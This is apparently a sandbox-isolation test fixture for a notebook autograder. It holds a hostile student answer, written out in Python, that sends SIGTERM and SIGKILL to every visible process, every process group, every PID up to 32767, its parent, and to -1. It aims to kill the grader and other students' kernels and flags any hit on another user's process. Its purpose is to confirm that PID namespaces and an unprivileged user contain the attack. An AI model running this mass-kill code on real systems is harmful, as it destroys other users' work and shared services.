"""Kill the grader, the other workers and the other students' kernels.

It sends SIGTERM, then SIGKILL, to every process it sees in /proc (but itself), then to every
process group and to each of the pids 2..32767 whether listed or not (its own threads' ids
aside: one would end its own process), to its parent, and finally `os.kill(-1, SIGKILL)`
(every process it may signal). Whenever a signal reaches a process of another user than its
own (root: the grader, its workers, the sandbox's holder) it prints a marker. It survives
all this itself (-1 spares the caller) and its answers stay blank.

What must stop it: its own PID namespace (it sees, and can signal, only the processes of its
own sandbox) and running as nobody (the holder of its sandbox is root's). The run must end
normally: every other student keeps the score expected_class() gives, no process is left,
and it scores 0.
"""

ANSWERS = {"mean_answer": r'''
import os
import signal

MARK = "PWN" + "ED-kill_grader"  # built here, so that the notebook itself never holds it
me, mine = os.getpid(), os.getuid()
threads = {int(t) for t in os.listdir("/proc/self/task")}  # a thread's id kills its process
group = os.getpgid(0)
hit, sent = [], [0]


def owner(pid):
    try:
        return os.stat(f"/proc/{pid}").st_uid
    except OSError:
        return None


def signal_pid(pid, sig):
    if pid in (0, me) or pid in threads:
        return
    uid = owner(pid)
    try:
        os.kill(pid, sig)
    except OSError:
        return
    sent[0] += 1
    if uid is not None and uid != mine:
        hit.append((pid, uid, sig))


listed = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
for sig in (signal.SIGTERM, signal.SIGKILL):
    for pid in listed:
        signal_pid(pid, sig)
groups = set()
for pid in listed:
    try:
        groups.add(os.getpgid(pid))
    except OSError:
        pass
for pgid in sorted(groups - {group, 0}):
    try:
        os.killpg(pgid, signal.SIGKILL)
        sent[0] += 1
    except OSError:
        pass
for pid in range(2, 32768):
    signal_pid(pid, signal.SIGKILL)
signal_pid(os.getppid(), signal.SIGKILL)
try:
    os.kill(-1, signal.SIGKILL)  # all it may signal, but itself
    sent[0] += 1
except OSError:
    pass

for pid, uid, sig in hit:
    print(f"{MARK} signal {sig} reached pid {pid} of uid {uid}")
print(f"kill_grader: {len(listed)} processes visible, {sent[0]} signals delivered, "
      f"{len(hit)} to another user's processes")
'''}
MAX_SECONDS = 40
